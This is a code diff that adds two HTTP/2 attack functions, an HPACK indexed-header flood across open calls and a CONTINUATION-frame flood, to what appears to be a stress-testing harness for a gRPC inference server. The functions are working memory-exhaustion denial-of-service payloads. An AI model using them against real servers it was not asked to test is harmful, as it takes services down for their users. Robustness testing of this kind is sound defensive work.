@@ -112,6 +112,38 @@ def indexed_headers(strike: Strike) -> None:
         note_frames(strike.answers, connection)
 
 
+@attack(_FLOODS)
+def indexed_headers_of_open_calls(strike: Strike) -> None:
+    """1,000 such references in each of 400 calls whose message never comes: what is kept of a call is kept until then.
+
+    4 MB a call: gRPC's core has a limit of 16 MB until a client acknowledges its settings, which none has to.
+    """
+    indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
+    block = call_headers(strike.target.path("ModelInfer"))
+    calls = [block + indexed, *[block + b"\xbe" * 1_000] * 399]
+    with Http2Connection(strike.target.host, strike.target.port) as connection:
+        for number, headers in enumerate(calls):
+            if not connection.send(frame(HEADERS, END_HEADERS, 2 * number + 1, headers), strike.until):
+                break
+        time.sleep(strike.left())
+        note_frames(strike.answers, connection)
+
+
+@attack(_FLOODS)
+def indexed_continuations(strike: Strike) -> None:
+    """Calls with 100,000 references each to a header field of one byte, over CONTINUATIONs: 100 kB a call."""
+    indexed = b"\x40" + literal("x", "")[1:]
+    block = call_headers(strike.target.path("ModelInfer"))
+    with Http2Connection(strike.target.host, strike.target.port) as connection:
+        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block + indexed), strike.until)
+        for stream in range(3, 60, 2):
+            more = [frame(CONTINUATION, END_HEADERS * (at == 5), stream, b"\xbe" * 16_000) for at in range(6)]
+            frames = frame(HEADERS, END_STREAM, stream, block + b"\xbe" * 4_000) + b"".join(more)
+            if not connection.send(frames, strike.until):
+                break
+        note_frames(strike.answers, connection)
+
+
 @attack(_WRONG)
 def wrong_frames(strike: Strike) -> None:
     """Each kind of frame with a size, a stream or a flag that it may not have."""
@@ -161,5 +193,5 @@ def random_frames(strike: Strike) -> None:
 
 ATTACKS = (
     unread_pings, pings, settings, settings_and_windows, continuations, empty_data_frames, priorities, indexed_headers,
-    wrong_frames, random_frames,
+    indexed_headers_of_open_calls, indexed_continuations, wrong_frames, random_frames,
 )  # fmt: skip
